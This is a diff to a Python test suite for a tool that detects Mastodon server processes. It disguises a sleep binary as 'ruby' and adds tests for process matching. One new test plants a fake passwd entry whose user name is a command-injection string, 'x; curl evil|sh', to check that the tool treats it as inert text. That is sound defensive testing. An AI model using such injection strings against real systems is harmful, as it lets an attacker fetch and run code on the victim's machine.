@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import contextlib
 import os
+import shutil
 import subprocess
 import time
 
@@ -125,10 +126,11 @@ def test_thousands_of_groups_are_reported_up_to_a_bound(tree):
 @contextlib.contextmanager
 def titled(title, folder):
     """A real process with this title in this folder."""
-    with subprocess.Popen(["bash", "-c", 'exec -a "$0" sleep 60', title], cwd=folder) as process:
+    ruby = shutil.copy(shutil.which("sleep"), folder / "ruby")
+    with subprocess.Popen(["bash", "-c", f'exec -a "$0" {ruby} 60', title], cwd=folder) as process:
         try:
             deadline = time.monotonic() + 10
-            while Processes().program(process.pid) != "sleep" and time.monotonic() < deadline:
+            while Processes().program(process.pid) != "ruby" and time.monotonic() < deadline:
                 time.sleep(0.01)
             yield process.pid
         finally:
@@ -142,3 +144,18 @@ def test_a_real_process(tmp_path):
     with titled(PUMA, tmp_path / "live") as pid:
         (one,) = [one for one in mastodons() if one.app_dir == str(tmp_path / "live")]
     assert (one.pid, one.role, one.release) == (pid, "web", "4.5.3")
+
+
+@pytest.mark.parametrize("program", ["vim", "journalctl", "tail", "node"])
+def test_a_program_that_is_no_ruby_does_not_count(tree, program):
+    tree.process(4711, "sidekiq", cwd="/home/mastodon/live", program=program)
+    assert look(tree) == []
+
+
+def test_the_name_of_a_user_in_a_container_is_only_a_name(tree):
+    tree.app()
+    passwd = tree.disk / "etc/passwd"
+    passwd.parent.mkdir(exist_ok=True)
+    passwd.write_text("x; curl evil|sh:x:48765:1::/:/bin/sh\n")
+    tree.process(4711, "puma 6.6.1 (x) [live]", f"0::/docker/{'a' * 64}\n", "/home/mastodon/live")
+    assert [one.user for one in look(tree)] == ["uid 48765"]
